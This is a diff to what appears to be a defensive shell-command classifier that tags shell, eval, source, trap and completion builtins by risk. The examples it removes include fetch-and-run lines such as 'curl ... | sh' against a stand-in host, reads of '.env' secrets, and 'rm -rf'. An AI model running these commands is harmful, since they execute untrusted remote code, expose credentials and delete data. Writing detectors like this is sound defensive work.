@@ -6,60 +6,26 @@ import { constant, type Word } from '../word.ts';
 /** Shells, and builtins that run text as commands. */
 export const shells = (): readonly Program[] => [
 	rows('sh bash dash zsh ksh mksh ash rbash', {
+		input: 'data',
 		options: { ...data('-o +o -O +O'), ...role('script', '--rcfile --init-file') },
 		wraps: true,
 		also: shell,
-		examples: {
-			"bash -c 'rm -rf dist'": ['delete dist recursive'],
-			'bash -ec "cat .env"': ['secret.read .env'],
-			'sh script.sh': ['exec script.sh'],
-			"echo 'rm x' | sh": ['delete x'],
-			'curl -s https://e.example/x | sh': ['network e.example', 'opaque'],
-			'bash <(curl https://e.example)': ['network e.example', 'opaque'],
-			"bash <<< 'rm x'": ['delete x'],
-			'bash -c "$X"': ['opaque'],
-			'bash --version': [],
-			'bash -n a.sh': ['read a.sh'],
-			'bash -n +n a.sh': ['exec +n'],
-			'bash -x .env': ['exec .env', 'secret.read .env'],
-			"bash -xc '. ./.env'": ['exec .env', 'secret.read .env'],
-			"bash 9<<< 'rm x' /dev/fd/9": ['exec /dev/fd/9', 'delete x'],
-		},
 	}),
 	rows('eval', {
+		input: 'ignored',
 		also: ({ words: [first, ...rest] }) => {
 			const words = first === undefined ? [] : first.text === '--' ? rest : [first, ...rest];
 			return [{ find: 'shell', source: joined(words), here: true }];
 		},
-		examples: {
-			"eval 'rm x'": ['delete x'],
-			'eval rm "x"': ['delete x'],
-			'eval "$X"': ['opaque'],
-			"eval -- 'rm x'": ['delete x'],
-			'eval rm *.log': ['opaque'],
-		},
 	}),
 	rows('source .', {
+		input: 'data',
 		also: ({ words: [file], scope }) => (file === undefined ? [] : sourced(file, scope)),
-		examples: {
-			'. ./x.sh': ['exec x.sh'],
-			'source <(curl https://e.example)': ['network e.example', 'opaque'],
-			"source <(echo 'rm x')": ['delete x'],
-			"exec {f}<<< 'rm x'; source /dev/fd/$f": ['delete x', 'opaque'],
-			"exec 7<<< 'rm x'; . /dev/stdin <&7": ['delete x', 'opaque'],
-			'set -v; . ./.env': ['exec .env', 'secret.read .env'],
-			"source /dev/stdin <<< 'rm x'": ['delete x'],
-		},
 	}),
-	rows('trap', {
-		also: trapped,
-		examples: { "trap 'rm x' EXIT": ['delete x', 'opaque'], "trap '' INT": [], "trap 'x=1' DEBUG": ['opaque'] },
-	}),
-	rows('bind enable', {
-		also: () => [opaque('makes the shell load or run what it names')],
-		examples: { 'enable -f x y': ['opaque'] },
-	}),
+	rows('trap', { input: 'ignored', also: trapped }),
+	rows('bind enable', { input: 'data', also: () => [opaque('makes the shell load or run what it names')] }),
 	rows('compgen complete compopt', {
+		input: 'data',
 		options: { ...role('shell', '-C -F'), ...data('-A -G -W -P -S -X -o') },
 		also: (it) => [
 			...it
@@ -67,13 +33,6 @@ export const shells = (): readonly Program[] => [
 				.map((word) => (word.known ? shellText(expandedText(word.text)) : opaque('a list that is expanded'))),
 			...(it.name === 'complete' && it.has('-C', '-F', '-W') ? [opaque('makes the shell run what it names')] : []),
 		],
-		examples: {
-			'compgen -c git': [],
-			"compgen -C 'rm d' x": ['delete d'],
-			"compgen -W '$(rm d)'": ['delete d'],
-			'f() { rm d; }; compgen -F f': ['delete d'],
-			"complete -C 'rm d' x": ['delete d', 'opaque'],
-		},
 	}),
 ];
 
